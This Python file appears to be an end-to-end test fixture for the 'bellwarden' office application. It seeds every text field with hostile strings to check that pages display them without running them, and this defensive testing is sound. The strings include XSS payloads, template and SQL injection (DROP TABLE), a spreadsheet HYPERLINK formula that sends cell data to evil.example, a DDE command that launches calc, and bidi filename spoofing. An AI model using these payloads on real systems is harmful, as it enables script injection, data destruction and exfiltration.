"""Hostile texts in every string field of every row of the office, put there past all readers, as a thief would.

python -m tests.e2e.office.payloads --home DIR      prints the cookie of somebody who may read everything
"""

import argparse
import time
import typing
from collections.abc import Iterator
from dataclasses import MISSING, Field, fields
from datetime import UTC, datetime
from enum import Enum
from pathlib import Path
from typing import Any

import msgspec

from bellwarden.home import Home
from bellwarden.model.complaint import Reading
from bellwarden.model.complaint_match import Matching, Triage
from bellwarden.model.message import Envelope
from bellwarden.model.office.audit_event import Actor, ActorKind
from bellwarden.model.office.complaint import ComplaintRecord
from bellwarden.model.office.row import Row
from bellwarden.model.office.trunk import TrunkRecord
from bellwarden.ports.office import Conflict, Desk
from bellwarden.store import configure
from bench.office.people import logged_in

# What a page must show and never obey. `xssran` is what the tests look for in the page's own memory.
TEXTS = {
    "script": "<script>window.xssran=1;alert(1)</script>",
    "attribute": '"\' autofocus onfocus=window.xssran=2 x="><img src=x onerror=window.xssran=3>',
    "closing": "</textarea></title></style></svg><svg onload=window.xssran=4>",
    "template": "{{ settings.SECRET_KEY }}{% debug %}{{7*7}}${7*7}<%= 7*7 %>",
    "address": "javascript:window.xssran=5",
    "sql": "x'); DROP TABLE office_customer; --",
    "formula": '=HYPERLINK("http://evil.example/"&A1,"see")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "bidi": "\u202egnp.exe\u202c \u2067harmless\u2069 \u200f\u200b\ufeff",
    "control": "\x1b[2J\x07\x08\x7f\x85\u2028line",
    "long": "W" * 180,
}
# Never text for people: names by which rows are found, hashes, dates, and words of a list kept in a text column.
PLAIN = {
    "ref": "",
    "country": "US",
    "language": "en",
    "until_day": "2031-12-31",
    "calendar": "wall",
    "fold_key": "",
}
UNIQUE = ("key", "external_id", "prefix", "numbers", "path")


def fill(desk: Desk, now: float) -> dict[str, int]:
    """Rows by book. A row that a constraint refuses was not to be had: that is right, too."""
    made: dict[str, int] = {}
    for name, record in books():
        book = getattr(desk, name)
        for number, (what, text) in enumerate(TEXTS.items(), 1):
            try:
                book.add(hostile(record, f"{what}-{number}", text, number, now))
            except Conflict as refusal:
                print(f"# {name} {what}: {refusal}")
                continue
            made[name] = made.get(name, 0) + 1
    return made


def books() -> Iterator[tuple[str, type[Row]]]:
    """In the order of the desk, where those that others point to come first."""
    for name, hint in typing.get_type_hints(Desk).items():
        yield name, typing.get_args(hint)[0]


def hostile(record: type[Row], name: str, text: str, number: int, now: float) -> Row:
    from bellwarden.store import models

    hints = typing.get_type_hints(record)
    model = getattr(models, record.__name__.removesuffix("Record"))
    values: dict[str, Any] = {}
    for field in fields(record):
        if field.name in ("id", "version", "ref", "created_at", "updated_at"):
            continue
        longest = getattr(model._meta.get_field(field.name), "max_length", None) or 200
        values[field.name] = _value(field, hints[field.name], f"p-{name}", text[:longest], number, now)
    if record is ComplaintRecord:
        values["reference"], values["message"] = f"C-HOSTILE{number}", f"{number:064x}"
        for name, kind in (("reading", Reading), ("matching", Matching), ("triage", Triage)):
            values[name] = msgspec.to_builtins(_all_of(kind, text))
    if record is TrunkRecord:
        values["addresses"] = (f"10.99.0.{number}",)
    return record(**values)


def _value(field: "Field[Any]", hint: Any, name: str, text: str, number: int, now: float) -> Any:
    if field.name in PLAIN:
        return PLAIN[field.name]
    if field.name in UNIQUE:
        return name if field.name != "numbers" else f"+1238209{number:04d}"
    if field.name in ("sha256", "digest"):
        return f"{number:064x}"
    if field.name == "approved_by":
        return text[:-1]  # never whoever proposed it
    if hint is str:
        return text
    if field.name == "kind":
        return list(hint)[number % len(hint)]
    if field.name.startswith(("reverses", "reversed", "merged", "parent", "campaign")):
        return 0
    if field.name.endswith("_id"):
        return number
    if field.name in ("created_at", "starts_at", "pressed_at", "opened_at", "proposed_at", "started_at", "captured_at"):
        return now - 3600.0 * number
    if field.name in ("expires_at", "due_at", "review_due_at"):
        return now + 3600.0 * number
    if field.name in ("journal_line", "lift_line"):
        return 0
    if typing.get_origin(hint) is tuple and typing.get_args(hint)[0] is str:
        return (text,)
    if field.name in ("details", "inputs", "before", "after"):
        return {text: text, "list": [text, {text: 1}]}
    return _usual(field, hint)


def _all_of(hint: Any, text: str, name: str = "") -> Any:
    """A value of a type with the text in every string of it, one of each in every tuple; marks cover three signs."""
    if hint is str:
        return text
    if hint in (int, float, bool):
        return hint(3 if name in ("end", "found") else 0)
    if hint is datetime:
        return datetime(2026, 5, 30, tzinfo=UTC)
    if isinstance(hint, type) and issubclass(hint, Enum):
        return next(iter(hint))
    inner = [one for one in typing.get_args(hint) if one is not type(None) and one is not Ellipsis]
    if typing.get_origin(hint) is tuple:
        return (_all_of(inner[0], text),)
    if inner:
        return _all_of(inner[0], text, name)
    return hint(**{name: _all_of(of, text, name) for name, of in typing.get_type_hints(hint).items()})


def _usual(field: "Field[Any]", hint: Any) -> Any:
    if field.default is not MISSING:
        return field.default
    if field.default_factory is not MISSING:
        return field.default_factory()
    if isinstance(hint, type) and issubclass(hint, Enum):
        return next(iter(hint))
    return hint()


def main() -> None:
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--home", type=Path, required=True)
    home = options.parse_args().home
    configure(home)
    from bellwarden.store.office import DjangoOffice
    from bellwarden.store.world import WallClock

    with DjangoOffice(WallClock()).writing(Actor(kind=ActorKind.SYSTEM, name=TEXTS["script"])) as desk:
        for book, count in fill(desk, time.time()).items():
            print(f"# {book}: {count}")
        for text in TEXTS.values():
            desk.audit("case.note", before={text: text}, after={text: text}, reason=text)
    for text in TEXTS.values():
        came = Envelope(text, time.time(), text, (text,), text, name=text)
        Home(home).mail_drop().take(text.encode(), came, waits=text)
    print(logged_in(home, "reader"))


if __name__ == "__main__":
    main()
